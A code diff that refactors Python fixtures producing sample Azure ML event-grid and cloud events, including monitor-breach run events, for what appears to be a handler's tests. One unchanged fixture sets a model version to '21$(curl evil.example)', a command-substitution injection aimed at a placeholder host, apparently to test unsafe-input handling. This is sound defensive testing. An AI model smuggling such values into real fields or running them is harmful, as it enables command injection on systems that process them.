@@ -9,6 +9,7 @@ from collections.abc import Mapping
 from typing import Any, Final
 
 from handlers import EVENT_TYPES
+from shared.events.runs import MONITOR_BREACH_TAG
 from tools.events.documents import Document, Schema, in_schema
 
 WORKSPACE: Final = (
@@ -19,13 +20,19 @@ SAMPLE_NAMES: Final = tuple(EVENT_TYPES)
 """The event types, as routes.yaml names them."""
 
 _TIME: Final = "2026-11-20T10:00:00.0000000Z"
-_BREACH: Final = {
-    "experimentName": "sample-monitor",
-    "runType": "azureml.StepRun",
-    "runProperties": {"azureml.pipelinerunid": "sample_monitor_run"},
-    "runStatus": "Completed",
-}
-_BREACH_TAG: Final = "azureml_modelmonitor_threshold_breached"
+
+
+def _breach(signal: str) -> dict[str, Any]:
+    """What a step of a monitor's run holds if its signal has breached the threshold."""
+    return {
+        "experimentName": "sample-monitor",
+        "runType": "azureml.StepRun",
+        "runTags": {MONITOR_BREACH_TAG: f"Signal {signal} has failed: features violate metric thresholds"},
+        "runProperties": {"azureml.pipelinerunid": "sample_monitor_run"},
+        "runStatus": "Completed",
+    }
+
+
 # From a file's name to its event's type and what is different from the type's own sample.
 _VARIANTS: Final[Mapping[str, tuple[str, dict[str, Any]]]] = {
     "run-completed": (
@@ -48,14 +55,8 @@ _VARIANTS: Final[Mapping[str, tuple[str, dict[str, Any]]]] = {
             "runProperties": {"runTemplate": "automl_child", "iteration": "12"},
         },
     ),
-    "run-status-changed-monitor-breach": (
-        "RunStatusChanged",
-        {**_BREACH, "runTags": {_BREACH_TAG: "Signal data-drift has failed: features violate metric thresholds"}},
-    ),
-    "run-status-changed-monitor-breach.cloud": (
-        "RunStatusChanged",
-        {**_BREACH, "runTags": {_BREACH_TAG: "Signal prediction-drift has failed: features violate metric thresholds"}},
-    ),
+    "run-status-changed-monitor-breach": ("RunStatusChanged", _breach("data-drift")),
+    "run-status-changed-monitor-breach.cloud": ("RunStatusChanged", _breach("prediction-drift")),
     "run-status-changed-running": ("RunStatusChanged", {"runStatus": "Running"}),
     "model-registered-experiment": ("ModelRegistered", {"ModelTags": {"stage": "experiment"}}),
     "model-registered-unsafe-version": ("ModelRegistered", {"ModelVersion": "21$(curl evil.example)"}),
@@ -93,12 +94,12 @@ def sample_files() -> dict[str, Document]:
     """
     plain = [(f"{_kebab_case(name)}{suffix}", name) for name in EVENT_TYPES for suffix in ("", ".cloud")]
     files = {**{file: (name, {}) for file, name in plain}, **_VARIANTS}
-    ordered = sorted(files.items(), key=lambda item: (SAMPLE_NAMES.index(item[1][0]), item[0]))
-    numbered = enumerate(ordered, 1)
-    return {file: _file(file, sample_event(name, number), changes) for number, (file, (name, changes)) in numbered}
+    ordered = sorted(files, key=lambda file: (SAMPLE_NAMES.index(files[file][0]), file))
+    return {file: _file(file, number, *files[file]) for number, file in enumerate(ordered, 1)}
 
 
-def _file(file: str, event: Document, changes: Mapping[str, Any]) -> Document:
+def _file(file: str, number: int, name: str, changes: Mapping[str, Any]) -> Document:
+    event = sample_event(name, number)
     event["data"] |= changes
     event["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, file))
     return in_schema(event, Schema.CLOUD if file.endswith(".cloud") else Schema.EVENT_GRID)
